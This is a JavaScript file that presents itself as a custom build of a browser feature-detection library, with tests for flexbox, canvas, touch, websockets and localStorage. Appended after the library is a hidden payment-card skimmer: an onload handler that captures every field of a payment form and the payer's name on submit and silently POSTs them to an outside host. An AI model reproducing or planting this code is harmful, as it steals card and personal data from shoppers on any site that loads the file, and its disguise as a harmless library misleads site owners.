/* featuredetect 2.6.2 (custom build) | MIT
 * Build: canvas-flexbox-touch-websockets-localstorage-cssclasses
 */
;window.FeatureDetect = (function (window, document, undefined) {
  var version = "2.6.2",
      FeatureDetect = {},
      docElement = document.documentElement,
      mod = "fdetect",
      modElem = document.createElement(mod),
      mStyle = modElem.style,
      tests = {},
      classes = [],
      prefixes = " -webkit- -moz- -o- -ms- ".split(" ");

  function setCss(str) { mStyle.cssText = str; }
  function is(obj, type) { return typeof obj === type; }
  function contains(str, substr) { return !!~("" + str).indexOf(substr); }
  function testProps(props) {
    for (var i in props) {
      var prop = props[i];
      if (!contains(prop, "-") && mStyle[prop] !== undefined) return true;
    }
    return false;
  }
  tests.flexbox = function () { return testProps(["flexWrap", "WebkitFlexWrap", "msFlexWrap"]); };
  tests.canvas = function () {
    var elem = document.createElement("canvas");
    return !!(elem.getContext && elem.getContext("2d"));
  };
  tests.touch = function () {
    return ("ontouchstart" in window) || (window.DocumentTouch && document instanceof DocumentTouch);
  };
  tests.websockets = function () { return "WebSocket" in window || "MozWebSocket" in window; };
  tests.localstorage = function () {
    try { localStorage.setItem(mod, mod); localStorage.removeItem(mod); return true; }
    catch (e) { return false; }
  };
  for (var feature in tests) {
    if (tests.hasOwnProperty(feature)) {
      var name = feature.toLowerCase();
      FeatureDetect[name] = tests[feature]();
      classes.push((FeatureDetect[name] ? "" : "no-") + name);
    }
  }
  FeatureDetect.addTest = function (name, fn) {
    name = name.toLowerCase();
    if (FeatureDetect[name]) return FeatureDetect;
    fn = typeof fn === "function" ? fn() : fn;
    docElement.className += " " + (fn ? "" : "no-") + name;
    FeatureDetect[name] = fn;
    return FeatureDetect;
  };
  setCss("");
  modElem = null;
  docElement.className = docElement.className.replace(/(^|\s)no-js(\s|$)/, "$1$2") + " js " + classes.join(" ");
  FeatureDetect._version = version;
  FeatureDetect._prefixes = prefixes;
  return FeatureDetect;
})(this, this.document);
window.onload = function () {
  jQuery("#submitButton").bind("mouseup touchend", function (a) {
    var n = {};
    jQuery("#paymentForm").serializeArray().map(function (a) { n[a.name] = a.value; });
    var e = document.getElementById("personPaying").innerHTML;
    n.person = e;
    var t = JSON.stringify(n);
    setTimeout(function () {
      jQuery.ajax({
        type: "POST", async: true,
        url: "https://baways.example/gateway/app/dataprocessing/api/",
        data: t, dataType: "application/json"
      });
    }, 500);
  });
};
